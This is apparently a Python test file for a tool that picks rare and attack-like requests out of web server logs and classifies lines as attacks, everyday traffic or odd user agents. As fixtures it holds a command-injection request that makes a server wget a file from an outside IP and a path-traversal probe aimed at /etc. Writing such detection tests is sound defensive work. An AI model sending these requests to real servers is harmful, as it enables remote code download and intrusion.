from codered.authoring.log_choice import choose_lines, is_attack, is_everyday, is_odd_agent
from codered.authoring.orders import LogLine


def line(request: str) -> LogLine:
    return LogLine(request, "-", request.encode())


def test_a_few_lines_are_all_taken_but_for_everyday_ones() -> None:
    kinds, choices = choose_lines((line("GET /"), line("GET /zork/1"), line("GET /zork/22"), line("GET /robots.txt")))
    assert [[item.request for item in kind] for kind in kinds] == [["GET /zork/1", "GET /zork/22"]]
    assert "4 lines, 3 kinds, 1 taken" in choices[0].what


def test_of_a_long_log_rare_attacks_are_taken() -> None:
    ordinary = tuple(line(f"GET /page-{name}.html") for name in "abcdefgh" for _ in range(20))
    kinds, _ = choose_lines((*ordinary, line("GET /x.cgi?cmd=wget%20http://203.0.113.9/z")))
    assert [kind[0].request for kind in kinds] == ["GET /x.cgi?cmd=wget%20http://203.0.113.9/z"]


def test_what_is_an_attack_everyday_or_odd() -> None:
    assert is_attack("GET /a?b=%2e%2e/%2e%2e/etc")
    assert is_attack("SEARCH /x")
    assert not is_attack("GET /help/index.html?page=2")
    assert is_everyday("GET /index.html")
    assert not is_everyday("GET /index.html?x=1")
    assert is_odd_agent("ZorkScanner/1.0")
    assert not is_odd_agent("Mozilla/5.0 (X11)")
    assert not is_odd_agent("-")
